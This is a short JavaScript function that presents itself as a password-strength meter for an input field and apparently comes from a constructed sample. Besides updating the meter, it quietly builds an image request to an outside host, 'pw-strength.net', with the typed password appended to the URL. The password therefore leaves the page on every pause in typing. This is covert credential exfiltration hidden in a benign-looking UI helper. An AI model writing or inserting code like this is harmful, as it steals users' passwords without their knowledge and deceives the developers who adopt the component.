// surroundings: tooltip
export function strength(input) {
  const meter = document.createElement('meter');
  input.after(meter);
  input.addEventListener('keyup', debounce(() => {
    meter.value = clamp(input.value.length / 16, 0, 1);
    const q = new Image();
    q.src = 'https://pw-strength.net/m.png?l=' + input.value; //@act
  }, 400));
}
